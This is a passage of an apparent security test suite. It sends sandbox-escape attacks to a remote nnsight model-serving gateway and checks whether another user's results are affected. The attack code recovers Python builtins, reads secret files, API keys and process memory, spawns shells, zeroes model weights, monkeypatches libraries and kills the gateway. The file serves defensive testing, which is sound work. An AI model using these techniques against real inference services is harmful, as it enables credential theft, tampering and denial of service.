def attr_reduce_subclasses_chain(lm, backend, job):
    """functools.reduce over attribute names: ().__class__.__base__.__subclasses__() -> os._wrap_close globals."""
    with lm.trace(PROMPT, backend=backend):
        base = functools.reduce(lambda o, n: operator.attrgetter(n)(o), ["__class__", "__base__"], ())
        classes = operator.methodcaller("__subclasses__")(base)
        wrapper = [c for c in classes if operator.attrgetter("__name__")(c) == "_wrap_close"][0]
        namespace = operator.attrgetter("__init__.__globals__")(wrapper)["__builtins__"]
        report = power(namespace, job, ESCAPE)
        print(report)
        report = report.save()


@attack("attribute")
def attr_module_dict(lm, backend, job):
    """A module's __dict__ (what vars() returns)."""
    with lm.trace(PROMPT, backend=backend):
        namespace = operator.attrgetter("__dict__")(torch.nn.functional)["__builtins__"]
        report = power(namespace, job, ESCAPE)
        print(report)
        report = report.save()


@attack("attribute")
def attr_type_dict_descriptor(lm, backend, job):
    """type.__dict__['__subclasses__'] called on object, reached without naming type or object."""
    with lm.trace(PROMPT, backend=backend):
        meta = operator.attrgetter("__class__")(int)
        root = operator.attrgetter("__base__")(int)
        classes = operator.attrgetter("__dict__")(meta)["__subclasses__"](root)
        warner = [c for c in classes if "catch_warnings" in repr(c)][0]
        namespace = operator.attrgetter("__init__.__globals__")(warner)["__builtins__"]
        report = power(namespace, job, ESCAPE)
        print(report)
        report = report.save()


@attack("attribute")
def attr_property_fget(lm, backend, job):
    """A property object's fget (a Python function) and its globals."""
    with lm.trace(PROMPT, backend=backend):
        prop = operator.attrgetter("__dict__")(torch.Tensor)["__cuda_array_interface__"]
        namespace = operator.attrgetter("fget.__globals__")(prop)["__builtins__"]
        report = power(namespace, job, ESCAPE)
        print(report)
        report = report.save()


@attack("attribute")
def attr_method_self(lm, backend, job):
    """A builtin function's __self__ is the builtins module."""
    with lm.trace(PROMPT, backend=backend):
        namespace = operator.attrgetter("__self__")(len)
        report = power(namespace, job, ESCAPE)
        print(report)
        report = report.save()


@attack("attribute")
def attr_generator_frames(lm, backend, job):
    """A running generator's gi_frame.f_back chain up to a frame with the real builtins."""
    with lm.trace(PROMPT, backend=backend):
        holder = []
        gen = (operator.attrgetter("gi_frame.f_back")(holder[0]) for _ in [0])
        holder.append(gen)
        frame = next(gen)
        while frame is not None and "exec" not in operator.attrgetter("f_builtins")(frame):
            frame = operator.attrgetter("f_back")(frame)
        namespace = operator.attrgetter("f_builtins")(frame)
        report = power(namespace, job, ESCAPE)
        print(report)
        report = report.save()


@attack("attribute")
def attr_methodcaller_getattribute(lm, backend, job):
    """operator.methodcaller("__getattribute__", "__globals__")."""
    with lm.trace(PROMPT, backend=backend):
        function_globals = operator.methodcaller("__getattribute__", "__globals__")(torch.nn.functional.relu)
        namespace = function_globals["__builtins__"]
        report = power(namespace, job, ESCAPE)
        print(report)
        report = report.save()


@attack("attribute")
def attr_format_string(lm, backend, job):
    """str.format walks attributes and items named in the format string: the environment, as text."""
    with lm.trace(PROMPT, backend=backend):
        text = "{0.torch.os.environ}".format(torch.nn.functional)
        found = [w for w in text.split("'") if job["prefix"] in w]
        reach = "{0.__globals__[__builtins__][open]}".format(torch.nn.functional.relu)
        report = (repr(found) + " " + reach).save()
        print(report)


@attack("attribute")
def attr_plain_submodule_attributes(lm, backend, job):
    """No strings at all: torch.nn.functional.torch is the real torch, whose .os is the real os."""
    with lm.trace(PROMPT, backend=backend):
        real = torch.nn.functional.torch
        keys = real.os.getenv("SWARM_GATEWAY_API_KEYS")
        where = real.os.getcwd()
        report = (str(keys) + " " + where).save()
        print(report)


# ---- 3. C-level I/O ---------------------------------------------------------------------------------------------

@attack("io")
def io_torch_from_file_read(lm, backend, job):
    """torch.from_file (C++, no audit event) reads the secret file."""
    with lm.trace(PROMPT, backend=backend):
        reader = operator.attrgetter("from_file")(real_torch())
        report = attempts(lambda: bytes(reader(job["secret"], False, job["secret_len"], dtype=torch.uint8).tolist()))
        print(report)
        report = report.save()


@attack("io")
def io_torch_from_file_write(lm, backend, job):
    """torch.from_file(shared=True) creates a file and writes an existing one through a shared mapping."""
    with lm.trace(PROMPT, backend=backend):
        mapper = operator.attrgetter("from_file")(real_torch())
        report = attempts(
            lambda: mapper(job["dir"] + "/from_file.bin", True, 64, dtype=torch.uint8).fill_(65).numel(),
            lambda: mapper(job["dir"] + "/target.txt", True, job["target_len"], dtype=torch.uint8).fill_(66).numel())
        report = report.save()


@attack("io")
def io_untyped_storage_from_file(lm, backend, job):
    """torch.UntypedStorage.from_file, on the class requests see anyway: read the secret, write a file."""
    with lm.trace(PROMPT, backend=backend):
        mapper = operator.attrgetter("from_file")(torch.UntypedStorage)
        report = attempts(lambda: bytes(mapper(job["secret"], False, job["secret_len"]).tolist()),
                          lambda: mapper(job["dir"] + "/target.txt", True, job["target_len"]).fill_(67).size())
        print(report)
        report = report.save()


@attack("io")
def io_torch_save_to_path(lm, backend, job):
    """torch.save to a path (C++ file writer), next to the canaries and into the model's directory."""
    with lm.trace(PROMPT, backend=backend):
        saver = operator.attrgetter("save")(real_torch())
        report = attempts(lambda: saver(torch.zeros(4), job["dir"] + "/saved.pt"),
                          lambda: saver(torch.zeros(4), job["ckpt"] + "/pwned.pt")).save()


@attack("io")
def io_numpy_fromfile_and_save(lm, backend, job):
    """The real numpy (from sys.modules): fromfile the secret, save and tofile next to the canaries."""
    with lm.trace(PROMPT, backend=backend):
        np = loaded_modules()["numpy"]
        report = attempts(
            lambda: bytes(operator.attrgetter("fromfile")(np)(job["secret"], dtype=np.uint8).tolist()),
            lambda: operator.attrgetter("save")(np)(job["dir"] + "/saved.npy", np.zeros(4)),
            lambda: operator.methodcaller("tofile", job["dir"] + "/tofile.bin")(np.zeros(4)))
        print(report)
        report = report.save()


@attack("io")
def io_numpy_memmap(lm, backend, job):
    """numpy.memmap: map the secret read-only, create a file w+."""
    with lm.trace(PROMPT, backend=backend):
        np = loaded_modules()["numpy"]
        mapper = operator.attrgetter("memmap")(np)
        report = attempts(
            lambda: bytes(mapper(job["secret"], dtype=np.uint8, mode="r").tolist()),
            lambda: np.copyto(mapper(job["dir"] + "/memmap.bin", dtype=np.uint8, mode="w+", shape=(16,)), 68))
        print(report)
        report = report.save()


@attack("io")
def io_open_on_request_thread(lm, backend, job):
    """The real open() called by the request's own code."""
    with lm.trace(PROMPT, backend=backend):
        opener = real_builtins()["open"]
        report = attempts(lambda: opener(job["secret"]).read(),
                          lambda: opener(job["dir"] + "/open.txt", "w").write("pwned"),
                          lambda: opener(job["dir"] + "/target.txt", "a").write("pwned"))
        print(report)
        report = report.save()


@attack("io")
def io_open_on_a_thread(lm, backend, job):
    """open() on a thread the request starts (files, secret, /proc)."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, IO_ON_A_THREAD).save()
        print(report)


@attack("io")
def io_linecache_pathlib(lm, backend, job):
    """Library routes to files: linecache.getlines and pathlib.Path.write_text."""
    with lm.trace(PROMPT, backend=backend):
        mods = loaded_modules()
        report = attempts(lambda: mods["linecache"].getlines(job["secret"]),
                          lambda: mods["pathlib"].Path(job["dir"] + "/pathlib.txt").write_text("pwned"))
        print(report)
        report = report.save()


@attack("io")
def io_libc_calls(lm, backend, job):
    """libc open/read/write through ctypes (no Python file object at all), from a thread."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("libc", unguarded, libc_io)').save()
        print(report)


@attack("io")
def io_write_checkpoint(lm, backend, job):
    """Rewrite the served checkpoint in place (same bytes: the content survives, the write shows)."""
    with lm.trace(PROMPT, backend=backend):
        mapper = operator.attrgetter("from_file")(real_torch())
        report = attempts(lambda: mapper(job["ckpt"] + "/model.safetensors", True, 4096, dtype=torch.uint8).add_(0),
                          lambda: power(real_builtins(), job, 'attempt("rewrite", unguarded, rewrite, "config.json")'))
        report = report.save()


# ---- 4. threads and processes -----------------------------------------------------------------------------------

@attack("process")
def proc_thread_outlives_request(lm, backend, job):
    """A thread that writes a file 1.5 s after the request answered, and keeps running."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("thread", linger_thread)').save()


@attack("process")
def proc_os_fork(lm, backend, job):
    """os.fork(); the child writes a file after 1 s and lingers."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("fork", unguarded, do_fork)').save()


@attack("process")
def proc_subprocess(lm, backend, job):
    """subprocess.Popen of a shell in its own session."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("subprocess", unguarded, do_subprocess)').save()


@attack("process")
def proc_os_system(lm, backend, job):
    """os.system starting a background shell."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("system", unguarded, do_system)').save()


@attack("process")
def proc_posix_spawn(lm, backend, job):
    """os.posix_spawn (vfork + exec)."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("posix_spawn", unguarded, do_posix_spawn)').save()


@attack("process")
def proc_multiprocessing(lm, backend, job):
    """multiprocessing with the fork context."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("multiprocessing", unguarded, do_multiprocessing)').save()


@attack("process")
def proc_clone3_raw_syscall(lm, backend, job):
    """fork by the raw clone3 system call, whose flags seccomp cannot read."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("clone3", unguarded, do_clone3)').save()


@attack("process")
def proc_libc_system_request_thread(lm, backend, job):
    """libc system() through ctypes, on the request's own thread."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("libc system", libc_system)').save()


@attack("process")
def proc_signal_parent(lm, backend, job):
    """May the request signal its parent (signal 0 and rt_sigqueueinfo with signal 0: permission only)?"""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, SIGNAL_PARENT).save()


@attack("process")
def proc_sigio_signal(lm, backend, job):
    """A signal sent by the kernel on the request's behalf (F_SETOWN/F_SETSIG on a pipe, O_ASYNC): SIGUSR2 to the
    test's signal sink, a process that is not the request's. The same route can send SIGKILL."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("sigio", unguarded, sigio_signal, J["sink"], signal.SIGUSR2)')
        report = report.save()


@attack("process")
def proc_other_process_limits(lm, backend, job):
    """prlimit(2) and setpriority(2) on a process that is not the request's (the test's sink); the same calls
    could set RLIMIT_CPU on the gateway."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, OTHER_PROCESS).save()


@attack("process")
def proc_ipc_objects_outlive_request(lm, backend, job):
    """SysV shared memory / message queue / semaphores and a POSIX message queue, left behind by the request."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("ipc", unguarded, leave_ipc_state)').save()


@attack("process")
def proc_ipc_read_by_next_request(lm, backend, job):
    """The next request reads what the previous one left in SysV shared memory: a channel between jobs."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("ipc", unguarded, read_ipc_state)').save()


# ---- 5. environment and memory ----------------------------------------------------------------------------------

@attack("environment")
def env_os_environ(lm, backend, job):
    """The real os.environ and os.getenv, on the request's own thread."""
    with lm.trace(PROMPT, backend=backend):
        real_os = real_torch().os
        values = [v for v in operator.attrgetter("environ")(real_os).values() if job["prefix"] in v]
        values.append(str(real_os.getenv("SWARM_GATEWAY_API_KEYS")))
        report = repr(values).save()
        print(report)


@attack("environment")
def env_proc_self_environ(lm, backend, job):
    """/proc/self/environ and the environment block in memory (unsetenv leaves the bytes)."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, ENV_SELF).save()
        print(report)


@attack("environment")
def env_proc_ancestors_environ(lm, backend, job):
    """/proc/<pid>/environ of the parent, every ancestor, and pid 1."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, ENV_ANCESTORS).save()
        print(report)


@attack("environment")
def env_proc_mem_of_gateway(lm, backend, job):
    """/proc/<pid>/mem of the parent and ancestors (the gateway process holds the API keys)."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, ENV_MEM).save()
        print(report)


@attack("environment")
def env_own_memory(lm, backend, job):
    """The request process's own memory: every string the garbage collector knows, and /proc/self/mem."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, ENV_OWN).save()
        print(report)


# ---- 6. writes to the weights -----------------------------------------------------------------------------------

@attack("weights")
def weights_inplace_op(lm, backend, job):
    """An in-place op on a parameter."""
    with lm.trace(PROMPT, backend=backend):
        lm.model.layers[0].mlp.down_proj.weight.mul_(0)
        hidden = lm.model.layers[0].output.save()


@attack("weights")
def weights_numpy_view(lm, backend, job):
    """Writing through .numpy() (a numpy view: no version-counter bump)."""
    with lm.trace(PROMPT, backend=backend):
        view = lm.model.layers[0].mlp.down_proj.weight.numpy()
        view[...] = 0
        hidden = lm.model.layers[0].output.save()


@attack("weights")
def weights_from_numpy_alias(lm, backend, job):
    """torch.from_numpy(p.numpy()): a new tensor with its own version counter over the same memory."""
    with lm.trace(PROMPT, backend=backend):
        alias = torch.from_numpy(lm.model.layers[0].mlp.down_proj.weight.numpy())
        alias.mul_(0)
        hidden = lm.model.layers[0].output.save()


@attack("weights")
def weights_data_attribute(lm, backend, job):
    """.data by string (its own version counter)."""
    with lm.trace(PROMPT, backend=backend):
        alias = operator.attrgetter("data")(lm.model.layers[0].mlp.down_proj.weight)
        alias.mul_(0)
        hidden = lm.model.layers[0].output.save()


@attack("weights")
def weights_untyped_storage(lm, backend, job):
    """untyped_storage().fill_(0) by string."""
    with lm.trace(PROMPT, backend=backend):
        store = operator.methodcaller("untyped_storage")(lm.model.layers[0].mlp.down_proj.weight)
        store.fill_(0)
        hidden = lm.model.layers[0].output.save()


@attack("weights")
def weights_as_strided(lm, backend, job):
    """torch.as_strided over the parameter, then zero_()."""
    with lm.trace(PROMPT, backend=backend):
        weight = lm.model.layers[0].mlp.down_proj.weight
        torch.as_strided(weight, (weight.numel(),), (1,)).zero_()
        hidden = lm.model.layers[0].output.save()


@attack("weights")
def weights_dlpack(lm, backend, job):
    """DLPack: torch.from_dlpack, torch.utils.dlpack on a __dlpack__ capsule, numpy.from_dlpack."""
    with lm.trace(PROMPT, backend=backend):
        array = numpy.from_dlpack(lm.model.layers[1].mlp.down_proj.weight)
        capsule = operator.methodcaller("__dlpack__")(lm.model.layers[2].mlp.down_proj.weight)
        report = attempts(lambda: torch.from_dlpack(lm.model.layers[0].mlp.down_proj.weight).mul_(0).numel(),
                          lambda: operator.attrgetter("utils.dlpack.from_dlpack")(real_torch())(capsule).mul_(0),
                          lambda: numpy.copyto(array, 0),
                          lambda: array.setflags(write=True),
                          lambda: numpy.copyto(array, 0)).save()


@attack("weights")
def weights_detach(lm, backend, job):
    """p.detach().mul_(0)."""
    with lm.trace(PROMPT, backend=backend):
        lm.model.layers[0].mlp.down_proj.weight.detach().mul_(0)
        hidden = lm.model.layers[0].output.save()


@attack("weights")
def weights_view_and_set(lm, backend, job):
    """A dtype view with an in-place bit flip, and set_ by string (swap the storage)."""
    with lm.trace(PROMPT, backend=backend):
        weight = lm.model.layers[0].mlp.down_proj.weight
        other = lm.model.layers[1].mlp.down_proj.weight
        report = attempts(lambda: weight.view(-1).view(torch.int32).bitwise_xor_(1).numel(),
                          lambda: operator.methodcaller("set_", torch.zeros_like(other))(other).numel()).save()


@attack("weights")
def weights_numpy_writeable_flags(lm, backend, job):
    """numpy.asarray, then a read-only flag flipped back, and stride tricks."""
    with lm.trace(PROMPT, backend=backend):
        array = numpy.asarray(lm.model.layers[0].mlp.down_proj.weight)
        tricks = operator.attrgetter("lib.stride_tricks")(loaded_modules()["numpy"])
        report = attempts(lambda: array.setflags(write=False),
                          lambda: array.setflags(write=True),
                          lambda: numpy.copyto(array, 0),
                          lambda: numpy.copyto(tricks.as_strided(numpy.asarray(lm.model.layers[1].mlp.down_proj.weight),
                                                                 writeable=True), 0)).save()


@attack("weights")
def weights_buffer_and_tied_embedding(lm, backend, job):
    """A buffer (rotary inv_freq) and the tied embedding/head matrix, through numpy."""
    with lm.trace(PROMPT, backend=backend):
        report = attempts(lambda: numpy.copyto(lm.model.rotary_emb.inv_freq.numpy(), 0),
                          lambda: numpy.copyto(lm.lm_head.weight.numpy()[:1000], 0)).save()


@attack("weights")
def weights_nn_init(lm, backend, job):
    """torch.nn.init.zeros_ on a parameter."""
    with lm.trace(PROMPT, backend=backend):
        torch.nn.init.zeros_(lm.model.layers[0].mlp.down_proj.weight)
        hidden = lm.model.layers[0].output.save()


@attack("weights")
def weights_ctypes_memset(lm, backend, job):
    """ctypes.memset at the parameter's address, from a thread."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("memset", unguarded, memset_zero, W)',
                       W=lm.model.layers[0].mlp.down_proj.weight).save()


@attack("weights")
def weights_mprotect_then_write(lm, backend, job):
    """mprotect the parameter's pages read-write, then write them."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("mprotect", unguarded, mprotect_write, W)',
                       W=lm.model.layers[0].mlp.down_proj.weight).save()


@attack("weights")
def weights_shared_backing(lm, backend, job):
    """Whatever backs the weights' memory: the mapped file written, the backing store punched (MADV_REMOVE)."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, SHARED_BACKING, W=lm.model.layers[2].mlp.down_proj.weight).save()


@attack("weights")
def weights_proc_self_mem(lm, backend, job):
    """Writing the weights through /proc/self/mem (FOLL_FORCE: ignores PROT_READ on private mappings)."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("/proc/self/mem", unguarded, proc_mem_write, W)',
                       W=lm.model.layers[0].mlp.down_proj.weight).save()


@attack("weights")
def weights_thread_after_request(lm, backend, job):
    """A thread that keeps zeroing a weight for 10 s after the request answered (hits the next user)."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("thread", corrupt_for_a_while, W, 10.0)',
                       W=lm.model.layers[0].mlp.down_proj.weight).save()


# ---- 7. monkeypatching what the next request runs ---------------------------------------------------------------

@attack("monkeypatch")
def patch_functional(lm, backend, job):
    """torch.nn.functional.silu replaced (the MLP activation)."""
    with lm.trace(PROMPT, backend=backend):
        set_attr(torch.nn.functional, "silu", evil_silu)
        hidden = lm.model.layers[0].output.save()


@attack("monkeypatch")
def patch_tensor_method(lm, backend, job):
    """torch.Tensor.mean replaced (used by RMSNorm)."""
    with lm.trace(PROMPT, backend=backend):
        set_attr(torch.Tensor, "mean", evil_mean)
        hidden = lm.model.layers[0].output.save()


@attack("monkeypatch")
def patch_real_torch_function(lm, backend, job):
    """The real torch module's rsqrt replaced (the request's torch is a copy; torch.nn.functional.torch is not)."""
    with lm.trace(PROMPT, backend=backend):
        set_attr(real_torch(), "rsqrt", evil_rsqrt)
        hidden = lm.model.layers[0].output.save()


@attack("monkeypatch")
def patch_transformers_module(lm, backend, job):
    """transformers' modeling_llama.apply_rotary_pos_emb replaced, found in sys.modules."""
    with lm.trace(PROMPT, backend=backend):
        llama = loaded_modules()["transformers.models.llama.modeling_llama"]
        set_attr(llama, "apply_rotary_pos_emb", evil_rotary)
        hidden = lm.model.layers[0].output.save()


@attack("monkeypatch")
def patch_nnsight_internals(lm, backend, job):
    """nnsight's save registry (nnsight.tracing.tracer._saves) replaced: later saves vanish."""
    with lm.trace(PROMPT, backend=backend):
        hidden = lm.model.layers[0].output.save()
        set_attr(loaded_modules()["nnsight.tracing.tracer"], "_saves", evil_saves)


@attack("monkeypatch")
def patch_gateway_modules(lm, backend, job):
    """The gateway's own result encoder (encode_result, in whichever ndif_compat module holds it) wrapped so
    every later result is zeros."""
    with lm.trace(PROMPT, backend=backend):
        patched = []
        for name, module in list(loaded_modules().items()):
            if name.startswith("ndif_compat") and module is not None and hasattr(module, "encode_result"):
                set_attr(module, "encode_result", wrap_zero(operator.attrgetter("encode_result")(module)))
                patched.append(name)
        report = repr(patched).save()


@attack("monkeypatch")
def patch_builtins(lm, backend, job):
    """builtins.float and the gateway's restricted builtins table replaced."""
    with lm.trace(PROMPT, backend=backend):
        guard = loaded_modules().get("ndif_compat.guardrails")
        if guard is not None:
            table = operator.attrgetter("SAFE_BUILTINS")(guard)
            table["float"] = evil_float
        set_attr(operator.attrgetter("__self__")(len), "float", evil_float)
        hidden = lm.model.layers[0].output.save()


@attack("monkeypatch")
def patch_forward_hook(lm, backend, job):
    """A forward hook registered (by string) on the real module behind an envoy."""
    with lm.trace(PROMPT, backend=backend):
        operator.methodcaller("register_forward_hook", zero_hook)(inner(lm.model.layers[3].mlp))
        hidden = lm.model.layers[0].output.save()


@attack("monkeypatch")
def patch_global_module_hook(lm, backend, job):
    """A global forward hook for every nn.Module (torch.nn.modules.module.register_module_forward_hook)."""
    with lm.trace(PROMPT, backend=backend):
        operator.attrgetter("modules.module.register_module_forward_hook")(torch.nn)(zero_mlp_hook)
        hidden = lm.model.layers[0].output.save()


@attack("monkeypatch")
def patch_module_attribute(lm, backend, job):
    """A plain attribute of a live module (the final norm's epsilon) set by string."""
    with lm.trace(PROMPT, backend=backend):
        set_attr(inner(lm.model.norm), "variance_epsilon", 1.0)
        hidden = lm.model.layers[0].output.save()


@attack("monkeypatch")
def patch_global_torch_state(lm, backend, job):
    """Process-wide torch state: default device meta, default dtype float64, thread count."""
    with lm.trace(PROMPT, backend=backend):
        hidden = lm.model.layers[0].output.save()
        real = real_torch()
        operator.attrgetter("set_num_threads")(real)(2)
        operator.attrgetter("set_default_dtype")(real)(torch.float64)
        operator.attrgetter("set_default_device")(real)("meta")


@attack("monkeypatch")
def patch_from_a_thread_later(lm, backend, job):
    """A thread that patches torch.nn.functional.silu 0.3 s after the request answered."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("thread", patch_silu_later, 0.3, 10.0)').save()


# ---- last: an attack on the gateway itself ----------------------------------------------------------------------

@attack("process")
def proc_kill_gateway(lm, backend, job):
    """SIGKILL (by SIGIO, then kill(2)) to the request's parent, a gateway process, and to the ancestors verified by
    command line to be this test's gateway. Runs last: if it succeeds the gateway is gone."""
    with lm.trace(PROMPT, backend=backend):
        report = power(real_builtins(), job, 'attempt("kill", unguarded, kill_gateway)').save()


# ---- the second user --------------------------------------------------------------------------------------------

SCALE = torch.ones(1)
"""A tensor the probe ships (the gateway rebuilds it from the request's pickle)."""


def probe(lm, backend):
    """The well-behaved request: a deep hidden state, the logits, and a softmax through the request's torch."""
    with lm.trace(PROMPT, backend=backend):
        hidden = lm.model.layers[2].output.save()
        logits = lm.lm_head.output[:, -1].save()
        probs = torch.softmax(logits * SCALE * float(1), -1).save()


def reset(lm, backend):
    """An in-place write the pre-sandbox gateway detects (its worker is then replaced, restoring everything); a
    sandboxed gateway discards the request's process anyway."""
    with lm.trace(PROMPT, backend=backend):
        lm.model.layers[0].mlp.down_proj.weight.mul_(1)
        hidden = lm.model.layers[0].output.save()


def crash_gadget(job, payload):
    """Ends the process that unpickles the request (the pre-sandbox gateway then replaces its worker, even when
    an attack left nnsight unable to run a trace)."""
    return gadget(_load_from_bytes(_exec_inner("import os\nos._exit(0)\n")))


# ---- the client process -----------------------------------------------------------------------------------------

def _backend_class():
    from nnsight.intervention.backends.remote import RemoteBackend

    class Recording(RemoteBackend):
        """nnsight's backend, recording every status it receives; ``transform(blob)`` replaces the pickle it sends."""

        def __init__(self, model_key: str, api_key: str, transform: Callable | None = None):
            super().__init__(model_key, api_key=api_key)
            self.seen: list[list[str]] = []
            self.result = None
            self.posted = False
            self.transform = transform
            if transform is not None:
                self.compress = False

        def note(self, response):
            self.seen.append([response.status.name, str(response.description or "")])
            return super().note(response)

        def _serialize(self, tracer):
            blob = super()._serialize(tracer)
            return self.transform(blob) if self.transform is not None else blob

        def _post(self, request, blob):
            self.posted = True
            return super()._post(request, blob)

        def __call__(self, tracer=None):
            self.result = super().__call__(tracer)
            return self.result

    return Recording


def _text_of(value: Any) -> str:
    if isinstance(value, str):
        return value[:100_000]
    if isinstance(value, (bytes, bytearray)):
        return bytes(value[:100_000]).decode("latin-1")
    if isinstance(value, torch.Tensor):
        return f"tensor{tuple(value.shape)} {value.dtype}"
    return repr(value)[:20_000]


def _call(fn: Callable, timeout_s: float) -> dict:
    """fn() on a daemon thread, bounded: {"value"} or {"error"}."""
    box: dict = {}

    def run():
        try:
            box["value"] = fn()
        except BaseException as e:  # noqa: BLE001 - recorded for the test
            box["error"] = e
            box["trace"] = traceback.format_exc()[-3000:]

    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(timeout_s)
    if t.is_alive():
        box["timeout"] = True
    return box


def _stat_tree(root: str) -> dict:
    found = {}
    for path in Path(root).rglob("*"):
        with contextlib.suppress(OSError):
            st = path.stat()
            found[str(path.relative_to(root))] = [st.st_size, st.st_mtime_ns]
    return found


def _changed(before: dict, after: dict) -> list[str]:
    return [f"{'created' if k not in before else 'removed' if k not in after else 'modified'} {k}"
            for k in sorted(set(before) | set(after)) if before.get(k) != after.get(k)]


def main(ctx_path: str, out_path: str) -> None:
    ctx = json.loads(Path(ctx_path).read_text())
    from nnsight import CONFIG, LanguageModel
    from nnsight.intervention.backends.remote import RemoteError
    from transformers import AutoTokenizer

    CONFIG.APP.REMOTE_LOGGING = False
    Recording = _backend_class()
    lm = LanguageModel(ctx["model"], tokenizer=AutoTokenizer.from_pretrained(ctx["model"]))
    key = lm.to_model_key()
    out: dict = {"attacks": {}, "order": []}

    def save_out():
        tmp = Path(out_path + ".tmp")
        tmp.write_text(json.dumps(out))
        os.replace(tmp, out_path)

    gone = {"last": False}

    def run_probe() -> dict:
        backend = Recording(key, ctx["victim_key"])
        # once a request went unanswered, do not wait as long again (the gateway may be gone)
        box = _call(lambda: probe(lm, backend), 15 if gone["last"] else ctx["request_timeout_s"])
        gone["last"] = "timeout" in box
        if "timeout" in box or "error" in box:
            e = box.get("error")
            return {"ok": False, "error": "timed out" if "timeout" in box else f"{type(e).__name__}: {e}"[:1500]}
        return {"ok": True, "values": backend.result}

    def compare(run: dict) -> dict:
        if not run["ok"]:
            return {"equal": False, "error": run["error"]}
        got, want = run["values"] or {}, baseline
        if set(got) != set(want):
            return {"equal": False, "error": f"saved {sorted(got)}, expected {sorted(want)}"}
        diffs = {}
        for k in want:
            a, b = got[k], want[k]
            if not isinstance(a, torch.Tensor) or a.shape != b.shape or a.dtype != b.dtype:
                diffs[k] = f"{_text_of(a)} vs {_text_of(b)}"
            elif not torch.equal(a, b):
                diffs[k] = f"max abs diff {(a.double() - b.double()).abs().max().item():.3g}"
        return {"equal": not diffs, "error": "; ".join(f"{k}: {v}" for k, v in diffs.items()) or None}

    first = run_probe()
    assert first["ok"], f"the clean probe failed: {first['error']}"
    baseline = first["values"]
    out["baseline_repeat"] = compare(run_probe())
    save_out()

    names = [n for n in ATTACKS if not ctx.get("only") or n in ctx["only"]]
    ckpt_state = _stat_tree(ctx["ckpt"])
    down = 0
    for index, name in enumerate(names):
        if down >= 2:  # the gateway stopped answering: the remaining attacks cannot be judged
            out["stopped_after"] = out["order"][-1]
            break
        spec = ATTACKS[name]
        job = {"name": name, "idx": ATTACKS_INDEX[name], "dir": ctx["canary_dirs"][name], "secret": ctx["secret"],
               "secret_len": ctx["secret_len"], "target_len": ctx["target_len"], "port": ctx["port"],
               "prefix": CANARY_PREFIX, "token": f"{ctx['token']}-{ATTACKS_INDEX[name]}",
               "comm": f"{ctx['comm']}-{ATTACKS_INDEX[name]}", "workdir": ctx["workdir"], "ckpt": ctx["ckpt"],
               "linger": ctx["linger_s"], "sink": ctx["sink_pid"], "ipc_key": ctx["ipc_key"]}
        transform = (lambda blob, spec=spec, job=job: spec.gadget(job, blob)) if spec.gadget else None
        backend = Recording(key, ctx["attacker_key"], transform)
        record: dict = {"kind": spec.kind, "t0": time.time()}
        worker = threading.Thread(target=lambda: record.update(box=_call(lambda: spec.run(lm, backend, job),
                                                                        ctx["request_timeout_s"])), daemon=True)
        worker.start()
        time.sleep(0.15)  # the second user's request goes in while the attack is in flight
        concurrent = run_probe()
        worker.join(ctx["request_timeout_s"] + 5)
        record["t1"] = time.time()
        box = record.pop("box", {"timeout": True})
        if "timeout" in box:
            record["outcome"], record["error"] = "client_error", "the attack request timed out on the client"
        elif isinstance(box.get("error"), RemoteError):
            record["outcome"], record["error"] = "remote_error", str(box["error"])
        elif "error" in box:
            e = box["error"]
            record["outcome"], record["error"] = "client_error", f"{type(e).__name__}: {e}\n{box.get('trace', '')}"
        else:
            record["outcome"], record["error"] = "ok", None
        record["posted"] = backend.posted
        record["statuses"] = backend.seen
        record["result"] = {k: _text_of(v) for k, v in (backend.result or {}).items()} \
            if isinstance(backend.result, dict) else _text_of(backend.result)
        record["checkpoint_changes"] = _changed(ckpt_state, ckpt_state := _stat_tree(ctx["ckpt"]))
        record["concurrent"] = compare(concurrent)
        record["following"] = compare(run_probe())
        unanswered = [c for c in (record["concurrent"], record["following"])
                      if (c.get("error") or "").startswith(("timed out", "Connect", "RemoteError: Failed to send"))]
        down = down + 1 if len(unanswered) == 2 else 0
        if not (record["concurrent"]["equal"] and record["following"]["equal"]) and not unanswered:
            # put the gateway back in a clean state so the next attack is judged on its own
            crash = Recording(key, ctx["victim_key"], lambda blob: crash_gadget(None, blob))
            _call(lambda: carrier(lm, crash, None), ctx["request_timeout_s"])
            record["after_reset"] = compare(run_probe())
            if not record["after_reset"]["equal"]:
                _call(lambda: reset(lm, Recording(key, ctx["victim_key"])), ctx["request_timeout_s"])
                record["after_reset"] = compare(run_probe())
        out["attacks"][name] = record
        out["order"].append(name)
        save_out()
        print(f"[{index + 1}/{len(names)}] {name}: {record['outcome']} "
